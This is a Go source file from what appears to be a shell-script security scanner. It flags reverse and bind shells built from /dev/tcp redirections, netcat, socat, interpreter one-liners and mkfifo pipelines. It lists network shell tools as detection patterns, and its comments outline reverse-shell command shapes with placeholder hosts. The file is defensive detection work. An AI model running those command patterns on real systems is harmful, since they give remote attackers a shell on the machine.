package shbehavior

import (
	"fmt"
	"strings"

	"github.com/doorman-sec/doorman/analyzer/shellscan"
	"github.com/doorman-sec/doorman/finding"
)

var (
	cweRevShell  = []string{"CWE-912", "CWE-78"}
	cweBindShell = []string{"CWE-912", "CWE-1191"}
)

const (
	titleRevShell  = "Reverse shell: a shell connected to a remote host"
	titleBindShell = "Bind shell: a shell served on a network port"
)

// netTools talk TCP with standard input and output.
var netTools = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true, "telnet": true, "socat": true}

// reverseShells reports DM-SH-003 and DM-SH-004.
func (c *checker) reverseShells() {
	s := c.s
	tcpFDs := map[string]string{} // fd opened on /dev/tcp → address
	for i := range s.Cmds {
		cmd := &s.Cmds[i]
		name := cmd.Name()
		argv := cmd.Argv()
		for _, r := range cmd.Redirs {
			if !isDevTCP(r.Target) {
				continue
			}
			if name == "exec" || len(argv) == 0 {
				if r.N != "" {
					tcpFDs[r.N] = r.Target
				}
				continue
			}
			if shellscan.IsShell(name) {
				c.report(i, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
					fmt.Sprintf("%s has its input and output wired to %s: whoever listens there gets a shell on this machine", name, r.Target))
			}
		}
		// exec 5<>/dev/tcp/h/p; … sh <&5 >&5, or a while-read loop running $line
		for _, r := range cmd.Redirs {
			if addr, ok := tcpFDs[r.Target]; ok && (r.Op == "<&" || r.Op == ">&") && (shellscan.IsShell(name) || strings.HasPrefix(firstArg(argv), "$")) && !c.claimed[i] {
				c.report(i, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
					fmt.Sprintf("commands are read from a connection to %s and run", addr))
			}
		}
		if c.claimed[i] {
			continue
		}
		switch {
		case netTools[name] && name != "socat":
			if prog := ncExec(argv); prog != "" {
				if listens(argv) {
					c.report(i, "DM-SH-004", finding.RemoteAccessService, finding.High, finding.ConfidenceHigh, cweBindShell, titleBindShell,
						fmt.Sprintf("%s listens and runs %s for whoever connects", name, prog))
				} else {
					c.report(i, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
						fmt.Sprintf("%s connects out and hands %s to the remote side", name, prog))
				}
			}
		case name == "socat":
			j := strings.ToLower(strings.Join(argv[1:], " "))
			if (strings.Contains(j, "exec:") || strings.Contains(j, "system:")) && strings.Contains(j, "tcp") {
				if strings.Contains(j, "-listen") {
					c.report(i, "DM-SH-004", finding.RemoteAccessService, finding.High, finding.ConfidenceHigh, cweBindShell, titleBindShell,
						"socat serves a program on a TCP port")
				} else {
					c.report(i, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
						"socat connects out and hands a program to the remote side")
				}
			}
		case isInterpreter(name) && !shellscan.IsShell(name):
			if code := codeArg(cmd); socketShell(code) {
				c.report(i, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
					fmt.Sprintf("a one-line %s program connects a socket to a shell", name))
			}
		}
		// mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f
		if cmd.Pipe != 0 && cmd.Stage == 0 {
			c.pipedShell(cmd.Pipe)
		}
	}
}

// pipedShell reports a pipeline that joins a shell reading standard input
// and a network tool.
func (c *checker) pipedShell(pipe int) {
	s := c.s
	var sh, net = -1, -1
	for _, k := range s.PipeStages(pipe) {
		switch n := s.Cmds[k].Name(); {
		case stdinCode(&s.Cmds[k]) && shellscan.IsShell(n):
			sh = k
		case netTools[n] || n == "openssl" && strings.Contains(strings.Join(s.Cmds[k].Args, " "), "s_client"):
			net = k
		}
	}
	if sh < 0 || net < 0 || c.claimed[sh] {
		return
	}
	if _, ok := fetchOf(&s.Cmds[net]); ok {
		return
	}
	if listens(s.Cmds[net].Argv()) {
		c.report(sh, "DM-SH-004", finding.RemoteAccessService, finding.High, finding.ConfidenceHigh, cweBindShell, titleBindShell,
			fmt.Sprintf("a shell is piped to and from %s listening on a port", s.Cmds[net].Name()))
		return
	}
	c.report(sh, "DM-SH-003", finding.RemoteCommandExecution, finding.Critical, finding.ConfidenceHigh, cweRevShell, titleRevShell,
		fmt.Sprintf("a shell's input and output are piped through %s to a remote host", s.Cmds[net].Name()))
}

func firstArg(a []string) string {
	if len(a) == 0 {
		return ""
	}
	return a[0]
}

func isDevTCP(t string) bool {
	return strings.HasPrefix(t, "/dev/tcp/") || strings.HasPrefix(t, "/dev/udp/")
}

// ncExec returns the program netcat runs for a connection (-e, -c,
// --exec, --sh-exec), or "".
func ncExec(argv []string) string {
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		switch {
		case a == "-e" || a == "-c" || a == "--exec" || a == "--sh-exec" || a == "--lua-exec":
			if i+1 < len(argv) {
				return argv[i+1]
			}
		case strings.HasPrefix(a, "--exec=") || strings.HasPrefix(a, "--sh-exec="):
			return a[strings.IndexByte(a, '=')+1:]
		case strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && (strings.HasSuffix(a, "e") || strings.HasSuffix(a, "c")) && len(a) > 2:
			if i+1 < len(argv) {
				return argv[i+1]
			}
		}
	}
	return ""
}

func listens(argv []string) bool {
	for _, a := range argv[1:] {
		if a == "--listen" || strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.ContainsRune(a, 'l') {
			return true
		}
	}
	return false
}

// socketShell recognises the one-line reverse shells of python, perl,
// ruby and php: a socket connected, then a shell bound to it.
func socketShell(code string) bool {
	if code == "" {
		return false
	}
	l := strings.ToLower(code)
	sock := strings.Contains(l, "socket") && strings.Contains(l, "connect") || strings.Contains(l, "fsockopen") || strings.Contains(l, "tcpsocket")
	shell := strings.Contains(l, "/bin/sh") || strings.Contains(l, "/bin/bash") || strings.Contains(l, "pty.spawn") || strings.Contains(l, "dup2") || strings.Contains(l, "cmd.exe")
	return sock && shell
}
